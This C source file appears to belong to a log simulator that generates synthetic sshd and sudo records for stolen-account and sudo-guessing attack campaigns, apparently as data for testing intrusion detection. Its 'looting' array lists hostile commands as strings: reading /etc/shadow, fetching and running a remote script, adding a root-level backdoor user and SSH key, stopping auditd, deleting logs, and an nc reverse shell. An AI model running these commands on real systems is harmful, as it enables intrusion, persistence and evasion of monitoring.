/* attacks-account.c: accounts that are misused by somebody who is in. */

#include "simulate/attack.h"
#include "simulate/sshd.h"

static const char *const looting[] = { "/usr/bin/id", "/usr/bin/cat /etc/shadow",
	"/usr/bin/wget http://198.19.7.7/x.sh -O /tmp/.x", "/usr/bin/chmod +x /tmp/.x", "/tmp/.x",
	"/usr/sbin/useradd -o -u 0 -g 0 -M -s /bin/bash support2", "/usr/bin/crontab -e",
	"/usr/bin/tar czf /tmp/.h.tgz /home /etc", "/usr/bin/tee -a /root/.ssh/authorized_keys",
	"/usr/bin/systemctl stop auditd", "/usr/bin/rm -f /var/log/auth.log.1",
	"/usr/bin/find / -perm -4000 -type f", "/usr/bin/nc -e /bin/sh 198.19.7.7 4444",
	"/usr/sbin/iptables -F", "/usr/bin/base64 -d /tmp/.b", "/usr/bin/visudo",
	"/usr/bin/python3 -c import pty;pty.spawn(\"/bin/bash\")" };

enum { LOOTING = sizeof(looting) / sizeof(looting[0]) };

/* Hours between now and the middle of a person's working day, 0..12. */
static double
distance_from_work(const struct simulation *sim, const struct person *p)
{
	double hour = (double)(of_day_ms(sim->now_ms + p->zone_ms)) / HOUR_MS;
	double distance = hour - (p->begins_h + p->ends_h) / 2;

	distance = distance < 0 ? -distance : distance;
	return distance > 12 ? 24 - distance : distance;
}

/* Whoever sleeps most deeply. */
void
stolen_begin(struct scene *scene, struct campaign *c)
{
	struct host *host = scene->host;

	for (int i = 0; i < host->people_count; i++) {
		const struct person *p =
		    &host->people[(i + c->victim->uid) % (unsigned)host->people_count];

		if (distance_from_work(scene->sim, p) >
		    distance_from_work(scene->sim, c->victim) + 2)
			c->victim = p;
	}
	c->pause_ms = draw_scale(scene->sim, 5000, 60000);
}

static void
loot(struct scene *scene, const struct person *p, int rows)
{
	struct sudo sudo = { p->name, p->uid, 0, "/tmp", NULL };

	for (int i = 0; i < rows; i++) {
		sudo.tty = draw_below(scene->sim, 2);
		sudo.command = looting[draw_below(scene->sim, LOOTING)];
		sudo_run(scene, &sudo, 2);
		pass_about(scene, 9000);
	}
}

/* In, straight to root, out with what is there; then again from the same address. */
void
stolen_step(struct scene *scene, struct campaign *c)
{
	struct simulation *sim = scene->sim;
	const struct person *p = c->victim;
	struct connection connection = {
		.user = p->name, .uid = p->uid, .is_user = true, .address = c->client.address.text
	};
	struct sudo first = { p->name, p->uid, 0, "/home/admin", "list" };

	connection_open(scene, &connection);
	if (c->stage == 0 && chance(sim, 0.3))
		connection_fail(scene, &connection, 1);
	connection_accept(scene, &connection);
	pass_about(scene, 8000);
	if (p->is_admin || chance(sim, 0.3))
		loot(scene, p, draw_between(sim, 2, 7));
	else
		sudo_refuse(scene, &first, draw_between(sim, 0, 3));
	pass_about(scene, 20000);
	connection_leave(scene, &connection);
}

void
sudo_begin(struct scene *scene, struct campaign *c)
{
	c->way = draw_below(scene->sim, 3);
	c->pause_ms = draw_scale(scene->sim, 2000, 30000);
}

/* Guesses at sudo and su until one works, and then takes what root has. */
void
sudo_step(struct scene *scene, struct campaign *c)
{
	struct simulation *sim = scene->sim;
	const struct person *p = c->victim;
	struct sudo sudo = { p->name, p->uid, 0, "/tmp", looting[draw_below(sim, LOOTING)] };

	if (c->lines > c->size / 2 && c->way > 0) {
		if (c->way == 1)
			loot(scene, p, 1);
		else
			su_leave(scene, su_root(scene, &sudo));
	} else if (chance(sim, 0.4)) {
		su_fail(scene, &sudo);
	} else {
		sudo_refuse(scene, &sudo, draw_between(sim, 0, 3));
	}
}
